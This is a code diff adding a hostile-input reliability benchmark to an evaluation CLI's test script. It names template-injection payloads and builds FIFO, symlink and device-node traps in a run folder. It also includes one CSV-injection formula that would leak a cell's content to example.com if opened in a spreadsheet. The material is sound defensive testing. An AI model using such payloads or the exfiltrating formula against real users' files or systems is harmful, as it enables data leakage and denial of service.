@@ -18,7 +18,18 @@ Four parts, each against the stub OpenAI/Anthropic server (``mitigate.testing``)
 4. **Bad inputs.** Every case of :data:`mitigate.testing.bad_inputs.BAD_INPUTS` in its own
    process: exit code, stderr lines, traceback or not, requests that reached the server.
 
-``--baseline-code DIR`` runs parts 3 and 4 a second time with the CLI of another checkout (e.g.
+5. **Hostile input: templates and run folder.** Template-injection payloads
+   (:mod:`mitigate.testing.hostile_templates`) through every command that reads a template (all of
+   them through ``prompts inspect``; ``--hostile-payloads all`` sends every payload through every
+   command): no marker file created, exit 2, one error line naming the template, no traceback, no
+   request. Then a hostile run folder: a FIFO journal, a journal linked to ``/dev/zero``, a FIFO
+   lock, a FIFO likelihood cache, a sparse journal line of 1 GiB, ``results.json`` and ``probe
+   --out`` as a symlink and as a device node, a journal score off the scale, a full disk under
+   ``results.json``, a CSV cell holding a formula. Every process runs under a 2 GiB address-space
+   limit and a timeout, so old code that hangs or fills the memory fails its case instead of the
+   machine.
+
+``--baseline-code DIR`` runs parts 3, 4 and 5 a second time with the CLI of another checkout (e.g.
 ``/work/main`` before this work) for a side-by-side. Writes ``benchmarks/results/reliability.json``.
 
     python benchmarks/bench_reliability.py [--trials 20] [--items 120] [--baseline-code /work/main]
@@ -33,6 +44,7 @@ import platform
 import random
 import signal
 import socket
+import stat
 import subprocess
 import sys
 import tempfile
@@ -44,6 +56,7 @@ from typing import Any
 
 from mitigate.testing import StubOpenAIServer
 from mitigate.testing.bad_inputs import BAD_INPUTS, expand, make_fixtures
+from mitigate.testing.hostile_templates import PAYLOADS, TEMPLATE_COMMANDS, hostile_template, template_command
 
 REPO = Path(__file__).resolve().parent.parent
 OUT = REPO / "benchmarks" / "results" / "reliability.json"
@@ -409,6 +422,190 @@ def bad_inputs(code: Path, work: Path, *, baseline: bool = False) -> list[dict[s
     return rows
 
 
+# ------------------------------------------------------------------------------------------- 5. hostile input
+
+HOSTILE_MEMORY = 2 * 2**30
+"""Address-space limit of every hostile-input process (old code filled the memory on some cases)."""
+FEW_PAYLOADS = ("cycler globals", "lipsum globals by index", "attr filter", "str.format attribute walk",
+                "range of a billion", "string times a billion", "macro recursion", "include a file")
+"""The payloads sent through every command by default (every payload goes through ``prompts inspect``)."""
+
+
+def _limited() -> None:
+    import resource
+
+    resource.setrlimit(resource.RLIMIT_AS, (HOSTILE_MEMORY, HOSTILE_MEMORY))
+
+
+def _cli(code: Path, args: list[str], env: dict[str, str], cwd: Path, timeout: float) -> dict[str, Any]:
+    """One CLI process of ``code`` under the memory limit: exit code (None: timed out), stderr, seconds."""
+    start = time.perf_counter()
+    try:
+        proc = subprocess.run([sys.executable, "-m", "mitigate", *args], env=env, cwd=code, capture_output=True,
+                              text=True, timeout=timeout, preexec_fn=_limited)
+        code_, stderr = proc.returncode, proc.stderr
+    except subprocess.TimeoutExpired as exc:
+        code_, stderr = None, exc.stderr.decode(errors="replace") if isinstance(exc.stderr, bytes) else (
+            exc.stderr or "")
+    return {"exit": code_, "stderr": stderr, "seconds": round(time.perf_counter() - start, 2), "cwd": str(cwd)}
+
+
+def _refused(out: dict[str, Any], expect: str) -> bool:
+    lines = out["stderr"].splitlines()
+    return (out["exit"] == 2 and len(lines) == 1 and lines[0].startswith("error:") and expect in lines[0]
+            and "Traceback" not in out["stderr"])
+
+
+def hostile_templates(code: Path, work: Path, payloads: str, timeout: float) -> list[dict[str, Any]]:
+    """Every payload through ``prompts inspect``; the chosen ones through every other command that reads a template."""
+    folder = make_fixtures(work / "fixtures")
+    env = env_for(code, work / "cache")
+    rows = []
+    with StubOpenAIServer(latency=0.0) as server:
+        for command in TEMPLATE_COMMANDS:
+            for k, payload in enumerate(PAYLOADS):
+                if command != "prompts inspect" and payloads != "all" and payload.name not in FEW_PAYLOADS:
+                    continue
+                marker = work / f"pwned-{k}"
+                prompt = work / f"hostile-{k}.txt"
+                prompt.write_text(hostile_template(payload, marker), encoding="utf-8")
+                before = server.request_count
+                out = _cli(code, template_command(command, prompt, folder, server.base_url), env, work, timeout)
+                row = {"command": command, "payload": payload.name, "exit": out["exit"], "seconds": out["seconds"],
+                       "marker_created": marker.exists(), "requests": server.request_count - before,
+                       "first_line": out["stderr"].splitlines()[0][:200] if out["stderr"] else ""}
+                row["pass"] = (_refused(out, payload.expect) and f" {prompt}: " in row["first_line"]
+                               and not row["marker_created"] and row["requests"] == 0)
+                rows.append(row)
+                print(f"  {'pass' if row['pass'] else 'FAIL'}  {command:16s} {payload.name:32s} exit {row['exit']!s:4s} "
+                      f"{row['seconds']:5.1f} s{'  MARKER CREATED' if row['marker_created'] else ''}", flush=True)
+    return rows
+
+
+def _device_node(path: Path) -> str:
+    """A character device node at ``path`` (the null device; a link to /dev/null where mknod is not allowed)."""
+    try:
+        os.mknod(path, 0o020666, os.makedev(1, 3))
+        return "device node"
+    except OSError:
+        path.symlink_to("/dev/null")
+        return "link to /dev/null"
+
+
+def hostile_run_folder(code: Path, work: Path, timeout: float) -> list[dict[str, Any]]:
+    """The run-folder cases, each in its own folder, each against the stub server; one row per case."""
+    bench, prompt = write_bench(work, 6)
+    env = env_for(code, work / "cache")
+    rows: list[dict[str, Any]] = []
+
+    def judge(run_dir: Path | None, *extra: str) -> list[str]:
+        return judge_args(bench, prompt, url, run_dir, concurrency=2, extra=extra)
+
+    def case(name: str, passed: bool, out: dict[str, Any], **detail: Any) -> None:
+        lines = out["stderr"].splitlines()
+        row = {"case": name, "pass": bool(passed), "exit": out["exit"], "seconds": out["seconds"],
+               "line": next((ln for ln in lines if ln.startswith(("error:", "warning:"))), "")[:200], **detail}
+        rows.append(row)
+        print(f"  {'pass' if row['pass'] else 'FAIL'}  {name:44s} exit {row['exit']!s:4s} {row['seconds']:5.1f} s  "
+              f"{row['line'][:110]}", flush=True)
+
+    with StubOpenAIServer(latency=0.0, reply=reply) as server:
+        url = server.base_url
+
+        def fresh(name: str) -> Path:
+            d = work / name
+            d.mkdir(parents=True)
+            return d
+
+        d = fresh("fifo-journal")
+        os.mkfifo(d / "journal.jsonl")
+        before = server.request_count
+        out = _cli(code, judge(d), env, work, timeout)
+        case("FIFO at journal.jsonl", _refused(out, "FIFO") and server.request_count == before, out)
+
+        d = fresh("zero-journal")
+        (d / "journal.jsonl").symlink_to("/dev/zero")
+        out = _cli(code, judge(d), env, work, timeout)
+        case("journal.jsonl linked to /dev/zero", _refused(out, "character device"), out)
+
+        d = fresh("fifo-lock")
+        os.mkfifo(d / "journal.jsonl.lock")
+        out = _cli(code, judge(d), env, work, timeout)
+        case("FIFO at journal.jsonl.lock", _refused(out, "FIFO"), out)
+
+        d = fresh("sparse-journal")
+        out = _cli(code, judge(d), env, work, timeout)
+        with (d / "journal.jsonl").open("r+b") as fh:  # 1 GiB of zeros with no line break, none of it on disk
+            fh.truncate((d / "journal.jsonl").stat().st_size + 2**30)
+        out = _cli(code, judge(d), env, work, timeout)
+        errors = [ln for ln in out["stderr"].splitlines() if ln.startswith("error:")]
+        case("journal line of 1 GiB (sparse)", out["exit"] == 2 and len(errors) == 1 and "is longer" in errors[0]
+             and "Traceback" not in out["stderr"], out)  # found while reading it: after the run's first line
+
+        d = fresh("fifo-likelihood")
+        os.mkfifo(d / "likelihood.jsonl")
+        out = _cli(code, ["compare", "-b", f"jsonl:{bench}", "-c", "fluency", "--prompt", str(prompt), "--backend",
+                          "openai:stub-model", "--base-url", url, "--no-progress", "-p", "baseline", "--out", str(d)],
+                   env, work, timeout)
+        case("FIFO at compare's likelihood.jsonl", _refused(out, "FIFO"), out)
+
+        d = fresh("link-results")
+        real = work / "kept-results.json"
+        real.write_text("old", encoding="utf-8")
+        (d / "results.json").symlink_to(real)
+        out = _cli(code, judge(d), env, work, timeout)
+        kept = (d / "results.json").is_symlink() and real.read_text(encoding="utf-8").startswith("{")
+        case("results.json is a symlink", out["exit"] == 0 and kept, out, still_a_link=(d / "results.json").is_symlink())
+
+        d = fresh("device-results")
+        how = _device_node(d / "results.json")
+        out = _cli(code, judge(d), env, work, timeout)
+        still = stat.S_ISCHR(os.stat(d / "results.json").st_mode)
+        case(f"results.json is a {how}", out["exit"] == 0 and still, out, still_a_device=still)
+
+        probe = ["probe", "-b", f"jsonl:{bench}", "-c", "fluency", "--prompt", str(prompt), "--backend",
+                 "openai:stub-model", "--base-url", url, "--no-progress", "-n", "2", "--probes", "verbosity"]
+        real = work / "kept-probe.json"
+        (work / "probe-link.json").symlink_to(real)
+        out = _cli(code, [*probe, "--out", str(work / "probe-link.json")], env, work, timeout)
+        kept = (work / "probe-link.json").is_symlink() and real.exists()
+        case("probe --out is a symlink", out["exit"] == 0 and kept, out)
+        how = _device_node(work / "probe-device.json")
+        out = _cli(code, [*probe, "--out", str(work / "probe-device.json")], env, work, timeout)
+        still = stat.S_ISCHR(os.stat(work / "probe-device.json").st_mode)
+        case(f"probe --out is a {how}", out["exit"] == 0 and still, out)
+
+        d = fresh("off-scale")
+        _cli(code, judge(d), env, work, timeout)
+        lines = (d / "journal.jsonl").read_text(encoding="utf-8").splitlines()
+        row = json.loads(lines[2])
+        row["scores"], row["samples"] = {"fluency": 9.0}, {"fluency": [9.0]}
+        lines[2] = json.dumps(row)
+        (d / "journal.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
+        before = server.request_count
+        out = _cli(code, [*judge(d), "--no-cache"], env, work, timeout)
+        scores = [j["scores"].get("fluency") for j in json.loads((d / "results.json").read_text())["judgments"]]
+        case("journal score 9 on a 1-5 scale", out["exit"] == 0 and 9.0 not in scores and "warning:" in out["stderr"]
+             and server.request_count - before == 1, out, rejudged=server.request_count - before)
+
+        if os.path.exists("/dev/full"):
+            d = fresh("full-disk")
+            (d / "results.json").symlink_to("/dev/full")
+            out = _cli(code, judge(d), env, work, timeout)
+            case("results.json on a full disk (/dev/full)", out["exit"] == 1 and "journal" in out["stderr"], out)
+
+        formula = work / "formula.jsonl"
+        formula.write_text(json.dumps({"id": '=HYPERLINK("http://example.com/?"&A1,"x")', "output": "S1.",
+                                       "inputs": {"source": "Article 1."}, "human": {"fluency": 3}}) + "\n")
+        out = _cli(code, ["judge", "-b", f"jsonl:{formula}", "-c", "fluency", "--prompt", str(prompt), "--backend",
+                          "openai:stub-model", "--base-url", url, "--no-progress", "--out", str(work / "rows.csv")],
+                   env, work, timeout)
+        cell = (work / "rows.csv").read_text(encoding="utf-8").splitlines()[1:2] if (work / "rows.csv").exists() else []
+        case("CSV --out cell holding =HYPERLINK(...)", out["exit"] == 0 and bool(cell) and cell[0].startswith('"\'=')
+             , out, cell=cell[0][:60] if cell else "")
+    return rows
+
+
 def summarise_permanent(rows: list[dict[str, Any]]) -> dict[str, Any]:
     strict = [r for r in rows if r["strict"]]
     return {
@@ -440,7 +637,11 @@ def main() -> None:
     ap.add_argument("--seed", type=int, default=0)
     ap.add_argument("--baseline-code", type=Path, default=None,
                     help="a checkout whose CLI runs parts 3 and 4 again for comparison (e.g. /work/main)")
-    ap.add_argument("--skip", nargs="*", default=[], choices=["kill", "storm", "permanent", "bad-inputs"])
+    ap.add_argument("--skip", nargs="*", default=[], choices=["kill", "storm", "permanent", "bad-inputs", "hostile"])
+    ap.add_argument("--hostile-payloads", choices=["few", "all"], default="few",
+                    help="template payloads sent through every command (every payload goes through prompts inspect)")
+    ap.add_argument("--hostile-timeout", type=float, default=60.0, help="seconds before a hostile case's process "
+                    "counts as hung")
     ap.add_argument("--out", type=Path, default=OUT, help="where to write the JSON")
     args = ap.parse_args()
     rng = random.Random(args.seed)
@@ -471,6 +672,18 @@ def main() -> None:
                 out.setdefault("bad_inputs", {})[arm] = {
                     "code": str(code), "cases": rows, "passed": sum(r["pass"] for r in rows), "total": len(rows),
                     "tracebacks": sum(r["traceback"] for r in rows), "exit_zero": sum(r["exit"] == 0 for r in rows)}
+            if "hostile" not in args.skip:
+                print(f"5. hostile input: templates ({arm}: {code})", flush=True)
+                tpl = hostile_templates(code, work / f"hostile-{arm}" / "templates", args.hostile_payloads,
+                                        args.hostile_timeout)
+                print(f"5. hostile input: run folder ({arm}: {code})", flush=True)
+                folder_rows = hostile_run_folder(code, work / f"hostile-{arm}" / "folder", args.hostile_timeout)
+                out.setdefault("hostile", {})[arm] = {
+                    "code": str(code), "templates": tpl, "run_folder": folder_rows,
+                    "templates_passed": sum(r["pass"] for r in tpl), "templates_total": len(tpl),
+                    "markers_created": sum(r["marker_created"] for r in tpl),
+                    "templates_hung": sum(r["exit"] is None for r in tpl),
+                    "folder_passed": sum(r["pass"] for r in folder_rows), "folder_total": len(folder_rows)}
     out["seconds"] = round(time.perf_counter() - started, 1)
     args.out.parent.mkdir(parents=True, exist_ok=True)
     args.out.write_text(json.dumps(out, indent=1) + "\n")
@@ -485,6 +698,10 @@ def main() -> None:
     for arm, block in out.get("bad_inputs", {}).items():
         print(f"bad inputs ({arm}): {block['passed']} of {block['total']} one-line errors with exit != 0 "
               f"({block['tracebacks']} tracebacks, {block['exit_zero']} exit 0)")
+    for arm, block in out.get("hostile", {}).items():
+        print(f"hostile templates ({arm}): {block['templates_passed']} of {block['templates_total']} refused in one "
+              f"line ({block['markers_created']} marker files created, {block['templates_hung']} hung); run folder: "
+              f"{block['folder_passed']} of {block['folder_total']} cases pass")
     print(f"wrote {args.out} in {out['seconds']} s")
 
 
